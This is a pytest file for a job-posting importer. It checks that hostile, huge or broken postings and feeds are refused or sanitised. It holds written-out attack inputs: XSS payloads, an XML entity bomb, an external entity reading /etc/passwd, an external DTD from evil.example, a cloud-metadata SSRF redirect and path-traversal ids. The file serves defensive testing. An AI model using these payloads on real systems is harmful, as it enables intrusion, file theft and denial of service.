"""Hostile, huge and broken postings are neutralised or refused with a reason; the others are shown."""

import json
import re
import time
import tracemalloc
from dataclasses import replace

import pytest
from import_sites import position

from benchmarks.vacancies.serving import Reply
from plugins.portal.loading import load_files
from plugins.portal.postings import render_posting
from plugins.vacancies.report import as_json, as_table

BOARD = ("boards-api.greenhouse.io", "/v1/boards/acme/jobs?content=true")
GOOD = position(1)


def entry_of(site, **changed) -> dict:
    """A posting of Greenhouse with other values."""
    site.hire("greenhouse", position(2))
    (entry,) = json.loads(site.server.answers[BOARD].body)["jobs"]
    return entry | changed


def with_bad(site, bad: object):
    """Import a board of one good posting and a bad one: the row, and the jobs by title."""
    site.hire("greenhouse", GOOD)
    found = json.loads(site.server.answers[BOARD].body)
    found["jobs"].insert(0, bad)
    site.server.answers[BOARD] = Reply(json.dumps(found).encode())
    row = site.row()
    loaded = load_files(site.root, site.settings.companies, site.settings.content)
    assert loaded.problems == []
    return row, {job["title"]: job for job in site.jobs()}


@pytest.mark.parametrize(
    ("changed", "reason"),
    [
        ({"absolute_url": "javascript:alert(1)"}, "must be an https:// address"),
        ({"absolute_url": "http://acme.example/"}, "must be an https:// address"),
        ({"absolute_url": "https://127.0.0.1:80/"}, "not a public web address"),
        ({"absolute_url": "https://user:word@acme.example/"}, "not a public web address"),
        ({"absolute_url": 'https://acme.example/"><script>'}, "not a public web address"),
        ({"absolute_url": None}, "address"),
        ({"content": "x" * 1_000_000}, "1,000,000 characters; refused"),
        ({"content": "<p>" + "x" * 50_000}, "characters; refused"),
        ({"content": "<script>alert(1)</script>"}, "has no text"),
        ({"content": "<p> &nbsp; </p>"}, "has no text"),
        ({"content": ""}, "has no text"),
        ({"title": ""}, "title"),
        ({"title": "x" * 400}, "title"),
        ({"title": ["x"]}, "title"),
        ({"id": None}, "id"),
        ({"id": "../../etc"}, None),
        ({"id": {"a": 1}}, "id"),
    ],
)
def test_a_bad_posting_is_refused_and_the_others_are_shown(site, changed, reason) -> None:
    """Each reason stands in the report."""
    row, jobs = with_bad(site, entry_of(site, **changed))
    assert GOOD.title in jobs
    assert row.error == ""
    if reason:
        assert len(jobs) == 1
        assert re.search(reason, row.refused[0])
    else:
        assert {job["id"] for job in jobs.values()} == {"1", "etc-9dd2c5d8"} or len(jobs) == 2


@pytest.mark.parametrize("bad", [None, 1, "x", [], {}, {"id": 5}, [[[]]], {"id": "\x00"}])
def test_what_is_no_posting_is_told_and_passed_over(site, bad) -> None:
    """Whatever stands in a list of postings."""
    row, jobs = with_bad(site, bad)
    assert [*jobs] == [GOOD.title]
    assert len(row.refused) == 1


HOSTILE = (
    '<script>alert(1)</script><p onclick="a()" style="position:fixed">Words</p>'
    '<a href="javascript:alert(1)">a</a><a href="data:text/html,x">b</a><iframe src="//x"></iframe>'
    '<img src=x onerror=alert(1)><svg><script>alert(1)</script></svg><form action="//x"><input>'
    "<style>*{display:none}</style></main></div><h1 id=Search>Heading</h1><!-- a --><base href=//x>"
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
)


def test_nothing_hostile_is_left_of_a_text(site) -> None:
    """What is kept is what a page would show, sanitised as it is once more when it is shown."""
    _, jobs = with_bad(site, entry_of(site, title="Two", content=HOSTILE))
    text = jobs["Two"]["description_html"]
    assert "<p>Words</p>" in text
    assert render_posting(text) == text
    for trace in ("script", "onclick", "onerror", "style", "javascript", "data:", "<img", "iframe"):
        assert trace not in text
    assert "<h2>Heading</h2>" in text


def test_signs_that_nobody_sees_are_taken_out(site) -> None:
    """Signs that turn the direction of writing, and odds and ends of lines, stay outside."""
    bad = entry_of(site, title="In\u202eventor\u200b \x07Two", content="<p>a\u2028b\u2066c\x08</p>")
    _, jobs = with_bad(site, bad)
    assert jobs["Inventor Two"]["description_html"] == "<p>abc</p>"


def test_the_same_id_twice_is_one_job(site) -> None:
    """The first stays."""
    row, jobs = with_bad(site, entry_of(site, id=1, title="First"))
    assert [*jobs] == ["First"]
    assert row.refused == ["1: another posting has the same id"]


BOMB = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {name} "{f"&{last};" * 10}">'
        for last, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
FILE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'


@pytest.mark.parametrize("system", ["personio", "teamtailor", "feed"])
@pytest.mark.parametrize("declared", [BOMB, FILE, OUTSIDE], ids=["bomb", "file", "outside"])
def test_entities_are_refused_before_anything_is_expanded(site, system, declared) -> None:
    """No bomb goes off, no file is read and no other host is asked."""
    site.hire(system, GOOD)
    place = next(iter(site.server.answers))
    body = site.server.answers[place].body.decode()
    start = body.find("?>") + 2 if "?>" in body else 0
    body = body[:start] + declared + body[start:].replace("Inventor", "&a;&i;")
    site.server.answers[place] = Reply(body.encode())
    tracemalloc.start()
    row = site.row()
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert "XML" in row.error
    assert peak < 50_000_000
    assert {request.target for request in site.server.asked} == {place[1]}
    assert not (site.folder / "acme.json").exists()


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"<",
        b"<x>",
        b"<html><p>Sorry</p></html>",
        b"\xff\xfe\x00",
        b"{}",
        b"[]",
        b"null",
        b"[" * 100_000,
        b'{"jobs": null, "offers": 1, "content": 2}',
        b'{"jobs": ' + b"9" * 5_000 + b"}",
        b"<a>" * 100_000,
        b"<rss><channel><item><title>x</title></item>",
        b'<?xml version="1.0" encoding="no-such"?><rss/>',
        b"<workzag-jobs><position/>",
    ],
)
@pytest.mark.parametrize(
    "system",
    [
        "greenhouse",
        "lever",
        "recruitee",
        "workable",
        "smartrecruiters",
        "personio",
        "teamtailor",
        "feed",
    ],
)
def test_broken_answers_cost_no_jobs(site, system, body) -> None:
    """Whatever a system answers instead of its board, the jobs that were good stay."""
    site.hire(system, GOOD)
    site.run()
    for place in site.server.answers:
        site.server.answers[place] = Reply(body)
    row = site.row()
    # An empty list is a faultless answer of Lever's: it has no jobs.
    if (system, body) == ("lever", b"[]"):
        assert (row.error, row.gone) == ("", 1)
    else:
        assert row.error
        assert (row.kept, site.titles()) == (1, [GOOD.title])


@pytest.mark.parametrize(
    "script",
    [
        "{",
        "[" * 50_000,
        "null",
        '{"@type": 5}',
        '{"@type": "JobPosting"}',
        '{"@graph": {"@graph": []}}',
    ],
)
def test_broken_linked_data_is_passed_over(site, script) -> None:
    """A page with a script that is no posting hides no other page."""
    site.hire("jobposting", GOOD, position(2))
    page = f'<script type="application/ld+json">{script}</script>'
    site.server.answers["acme.example", "/jobs/2/"] = Reply(page.encode())
    assert site.row().error == ""
    assert site.titles() == [GOOD.title]


def test_feeds_lead_to_no_private_network(site) -> None:
    """The row says where the feed wanted to lead to."""
    site.hire("feed", GOOD)
    site.server.addresses["169.254.169.254"] = ["169.254.169.254"]
    site.server.answers["acme.example", "/jobs.atom"] = Reply(
        status=302, headers={"Location": "https://169.254.169.254/latest/meta-data/"}
    )
    error = site.row().error
    assert error == "'169.254.169.254' is at 169.254.169.254, which is no public address; refused"


@pytest.mark.parametrize(
    "board",
    ["../x", "a/b", "a?b=c", "a#b", "", " ", "a@b", "..", "x" * 101, "https://evil.example/"],
)
@pytest.mark.parametrize("system", ["greenhouse", "recruitee", "personio", "smartrecruiters"])
def test_names_of_boards_cannot_change_addresses(site, system, board) -> None:
    """A board is a name; nothing is asked for otherwise."""
    site.add("acme", f"{{system: {system}, board: '{board}'}}")
    assert all(row.error for row in site.run().rows)
    assert site.server.asked == []


@pytest.mark.parametrize("board", ["http://acme.example/", "file:///etc/passwd", "acme", "//x"])
def test_addresses_of_boards_are_https(site, board) -> None:
    """Pages and feeds stand on the web, and are asked for safely."""
    for company, system in (("one", "feed"), ("two", "jobposting")):
        site.add(company, f"{{system: {system}, board: '{board}'}}")
    assert all("https://" in row.error for row in site.run().rows)
    assert site.server.asked == []


def test_an_unknown_system_is_told_with_what_was_meant(site) -> None:
    """A mistyped system costs nobody else's jobs."""
    site.add("acme", "{system: greenhuose, board: acme}")
    site.hire("greenhouse", GOOD, company="other")
    report = site.run()
    assert "did you mean 'greenhouse'" in report.rows[0].error
    assert report.rows[1].new == 1


def test_an_endless_board_is_refused(site) -> None:
    """Three thousand postings are more than one employer has here."""
    site.limits = replace(site.limits, offers=50)
    site.hire("greenhouse", *(position(number) for number in range(1, 60)))
    assert site.row().error == "has more than 50 postings"


@pytest.mark.parametrize(
    "text", ["<a" * 190_000, "\n \n" * 120_000, "&amp;" * 70_000, "<b>" * 120_000, "<!--" * 90_000]
)
@pytest.mark.parametrize("field", ["content", "title"])
def test_texts_that_are_made_to_stall_us_do_not(site, field, text) -> None:
    """The time that a text takes grows with its length alone."""
    start = time.perf_counter()
    _, jobs = with_bad(site, entry_of(site, **{field: text}))
    assert GOOD.title in jobs
    assert time.perf_counter() - start < 3


def test_a_board_that_takes_too_long_is_left(site) -> None:
    """However quickly each of its pages comes."""
    site.limits = replace(site.limits, board=0.5)
    site.hire("jobposting", *(position(number) for number in range(1, 30)))
    site.server.answers["acme.example", "/robots.txt"] = Reply(b"User-agent: *\nCrawl-delay: 1")
    site.hire("lever", GOOD, company="other")
    report = site.run()
    assert report.rows[0].error == "takes more than 0.5 s"
    assert report.rows[1].new == 1


@pytest.mark.parametrize("field", ["id", "title", "content", "absolute_url", "location"])
def test_halves_of_signs_stop_nothing(site, field) -> None:
    """JSON can hold half a sign, which no file can: that posting alone is refused or mended."""
    half = "https://acme.example/\ud800/jobs"
    value = {"name": half} if field == "location" else half
    row, jobs = with_bad(site, entry_of(site, title="Two") | {field: value})
    assert GOOD.title in jobs
    report = site.run()
    as_json(report).encode()
    as_table(report).encode()
    assert "\ud800" not in (site.folder / "acme.json").read_text("utf-8")
    assert row.error == ""
